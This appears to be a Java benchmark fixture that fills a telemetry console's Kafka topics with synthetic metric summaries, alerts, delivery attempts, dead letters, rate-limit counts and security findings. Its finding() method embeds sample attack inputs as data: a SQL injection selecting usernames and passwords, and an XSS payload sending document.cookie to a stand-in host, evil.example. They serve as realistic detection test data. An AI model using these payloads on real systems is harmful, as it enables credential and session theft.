package dev.telemetry.benchmarks.console;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.telemetry.events.Envelope;
import dev.telemetry.events.SecurityEvent;
import dev.telemetry.events.codec.JsonCodec;
import dev.telemetry.events.derived.AlertEvent;
import dev.telemetry.events.derived.AlertStatus;
import dev.telemetry.events.derived.RateLimitCount;
import dev.telemetry.events.derived.Summary;
import dev.telemetry.events.topic.Topic;
import dev.telemetry.events.topic.TopicCatalogue;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;

/**
 * The console's worst case at its shipped caps, written to the pipeline's own topics as their producers write them:
 * one-minute summaries over the retention for one metric of {@code perMetric} series (the chart the API benchmark asks
 * for) and {@code vitals} web-vital series with ratings, {@code records} alert
 * fingerprints, delivery attempts, dead letters, security findings and rate-limit counts. Strings are of realistic
 * length (labels, annotations with a runbook, offending inputs of ~100 characters); numbers are full-precision
 * doubles, as DDSketch's percentiles and means are.
 */
final class ConsoleFill {

    static final String APP = "bench-shop";
    /** The metric the API benchmark charts: {@code perMetric} series × {@code windows} windows. */
    static final String CHART_METRIC = "bench_latency_ms";

    private static final JsonCodec CODEC = JsonCodec.standard();

    record Counts(long summaries, long alerts, long attempts, long deadLetters, long findings, long rateLimitCounts, Duration took) {
    }

    private ConsoleFill() {
    }

    /**
     * @param vitals how many web-vital series: the series cap minus the chart's and those the console already holds, so
     *               that the cap is full, not overrun (an overrun makes the newest series evict each other, which is
     *               the eviction's cost, not the steady state's)
     */
    static Counts fill(String bootstrap, int perMetric, int vitals, int windows, int records) {
        long t0 = System.nanoTime();
        TopicCatalogue topics = TopicCatalogue.defaults();
        Random random = new Random(7);
        Instant end = Instant.now().truncatedTo(ChronoUnit.MINUTES);
        Instant first = end.minus(Duration.ofMinutes(windows));
        Map<String, Object> props = new LinkedHashMap<>();
        props.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrap);
        props.put(ProducerConfig.LINGER_MS_CONFIG, 20);
        props.put(ProducerConfig.BATCH_SIZE_CONFIG, 262_144);
        props.put(ProducerConfig.COMPRESSION_TYPE_CONFIG, "lz4");
        props.put(ProducerConfig.ACKS_CONFIG, "all");
        long summaries = 0;
        try (KafkaProducer<String, byte[]> producer = new KafkaProducer<>(props, new StringSerializer(), new ByteArraySerializer())) {
            String summaryTopic = topics.name(Topic.SUMMARIES);
            // Window by window, the chart's series first: when the series cap is reached (the demo's own series count
            // too), the newcomers refused are some of the web vitals', never the chart's.
            for (int w = 0; w < windows; w++) {
                Instant start = first.plus(Duration.ofMinutes(w));
                for (int s = 0; s < perMetric; s++) {
                    Summary chart = chart(s, start, random);
                    producer.send(new ProducerRecord<>(summaryTopic, null, chart.windowEnd().toEpochMilli(), chart.key(), CODEC.write(chart)));
                    summaries++;
                }
                for (int s = 0; s < vitals; s++) {
                    Summary vital = vital(s, start, random);
                    producer.send(new ProducerRecord<>(summaryTopic, null, vital.windowEnd().toEpochMilli(), vital.key(), CODEC.write(vital)));
                    summaries++;
                }
            }
            Instant now = Instant.now();
            for (int i = 0; i < records; i++) {
                Instant at = now.minus(Duration.ofMillis((long) (records - i) * 1000));
                AlertEvent alert = alert(i, at, random);
                producer.send(new ProducerRecord<>(topics.name(Topic.ALERTS), null, at.toEpochMilli(), alert.fingerprint(), CODEC.write(alert)));
                producer.send(new ProducerRecord<>(topics.name(Topic.NOTIFICATIONS), null, at.toEpochMilli(), "ops-webhook-" + (i % 5),
                        CODEC.write(attempt(i, at, random))));
                producer.send(new ProducerRecord<>(topics.name(Topic.ALERTS_DLQ), null, at.toEpochMilli(), alert.fingerprint(),
                        CODEC.write(deadLetter(i, at, alert))));
                Envelope finding = finding(i, at);
                producer.send(new ProducerRecord<>(topics.name(Topic.SECURITY), null, at.toEpochMilli(), finding.key(), CODEC.writeEnvelope(finding)));
                RateLimitCount count = rateLimit(i, at, random);
                producer.send(new ProducerRecord<>(topics.name(Topic.RATELIMIT), null, at.toEpochMilli(), count.key(), CODEC.write(count)));
            }
            producer.flush();
        }
        return new Counts(summaries, records, records, records, records, records, Duration.ofNanos(System.nanoTime() - t0));
    }

    private static Summary chart(int s, Instant start, Random random) {
        String host = "web-%04d".formatted(s);
        String region = List.of("eu-west-1", "us-east-1", "ap-south-1").get(s % 3);
        Map<String, String> labels = Map.of("host", host, "region", region, "endpoint", "/api/products/search");
        long count = 200 + random.nextInt(5000);
        double mean = 80 + random.nextDouble() * 400;
        double p50 = mean * (0.8 + random.nextDouble() * 0.1);
        return new Summary(1, APP, CHART_METRIC, CHART_METRIC + "{endpoint=/api/products/search,host=" + host + ",region=" + region + "}",
                labels, start, start.plusSeconds(60), count, mean * count, 3 + random.nextDouble(), mean * 20 * random.nextDouble() + mean,
                mean, p50, p50 * 1.31, p50 * 1.87, p50 * 2.43, p50 * 4.11, null);
    }

    private static Summary vital(int s, Instant start, Random random) {
        String page = "/products/category-%04d".formatted(s);
        long count = 50 + random.nextInt(2000);
        double mean = 1500 + random.nextDouble() * 1500;
        long poor = random.nextInt((int) count / 10 + 1);
        long ni = random.nextInt((int) (count - poor) / 3 + 1);
        double p50 = mean * (0.8 + random.nextDouble() * 0.1);
        return new Summary(1, APP, "LCP", "LCP{page=" + page + "}", Map.of("page", page), start, start.plusSeconds(60),
                count, mean * count, 200 + random.nextDouble() * 300, mean * 4 * random.nextDouble() + mean, mean,
                p50, p50 * 1.25, p50 * 1.6, p50 * 1.9, p50 * 2.8, new Summary.Ratings(count - poor - ni, ni, poor));
    }

    private static AlertEvent alert(int i, Instant at, Random random) {
        AlertStatus status = switch (i % 3) {
            case 0 -> AlertStatus.FIRING;
            case 1 -> AlertStatus.PENDING;
            default -> AlertStatus.RESOLVED;
        };
        String host = "web-%04d".formatted(i);
        Map<String, String> labels = Map.of("alertname", "latency_high", "app", APP, "severity", "high", "host", host,
                "region", "eu-west-1", "endpoint", "/api/products/search");
        Map<String, String> annotations = Map.of(
                "summary", "p95 latency of /api/products/search on " + host + " above 1 s",
                "description", "The 95th percentile response time of the search endpoint on " + host
                        + " has been above its threshold for the last window; check the database pool and recent deploys.",
                "runbook", "https://runbooks.example.com/shop/latency-high#" + host);
        Instant startsAt = at.minus(Duration.ofMinutes(5));
        return new AlertEvent(1, "bench-fp-%05d-%08x".formatted(i, random.nextInt()), status, "latency_high", CHART_METRIC, "p95",
                labels, 1000 + random.nextDouble() * 1000, 1000, "gt", "high", List.of("#alerts", "pager"), annotations,
                startsAt, status == AlertStatus.RESOLVED ? at : null, at);
    }

    private static Map<String, Object> attempt(int i, Instant at, Random random) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("receiver", "ops-webhook-" + (i % 5));
        m.put("idempotencyKey", "bench-fp-%05d:firing:%d".formatted(i, at.toEpochMilli()));
        m.put("fingerprint", "bench-fp-%05d".formatted(i));
        m.put("rule", "latency_high");
        m.put("status", "firing");
        m.put("attempt", 1 + i % 3);
        m.put("outcome", i % 4 == 0 ? "retryable" : "delivered");
        m.put("reason", i % 4 == 0 ? "HTTP 503 Service Unavailable from https://hooks.example.com/ops" : null);
        m.put("latencyMs", 20 + random.nextInt(400));
        m.put("at", at.toString());
        return m;
    }

    private static Map<String, Object> deadLetter(int i, Instant at, AlertEvent alert) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("receiver", "pager");
        m.put("reason", "HTTP 400 Bad Request (permanent): invalid routing key");
        m.put("idempotencyKey", "bench-dl-%05d".formatted(i));
        m.put("attempts", 5);
        m.put("firstAttemptAt", at.minusSeconds(60).toString());
        m.put("at", at.toString());
        m.put("alert", alert);
        return m;
    }

    private static Envelope finding(int i, Instant at) {
        String ip = "203.0.%d.%d".formatted(i / 250 % 250, i % 250);
        ObjectNode data = JsonNodeFactory.instance.objectNode()
                .put("source", "stream-processor").put("class", i % 2 == 0 ? "sqli" : "xss").put("field", "query")
                .put("input", i % 2 == 0 ? "q=shoes' UNION SELECT username, password FROM users WHERE '1'='1' -- " + i
                        : "q=<img src=x onerror=fetch('https://evil.example/steal?c='+document.cookie)> " + i)
                .put("ip", ip).put("endpoint", "/api/products/search");
        return new Envelope(1, "bench-finding-%06d".formatted(i), null, APP, at, at, ip,
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
                new SecurityEvent(i % 2 == 0 ? "SQL Injection Attempt" : "XSS Attempt", data, at.toEpochMilli(), "high"));
    }

    private static RateLimitCount rateLimit(int i, Instant at, Random random) {
        Instant start = at.truncatedTo(ChronoUnit.MINUTES);
        int count = 50 + random.nextInt(200);
        return new RateLimitCount(1, APP, "198.51.%d.%d".formatted(i / 250 % 250, i % 250), "/api/products/search",
                start, start.plusSeconds(60), count, 100, count > 100);
    }
}
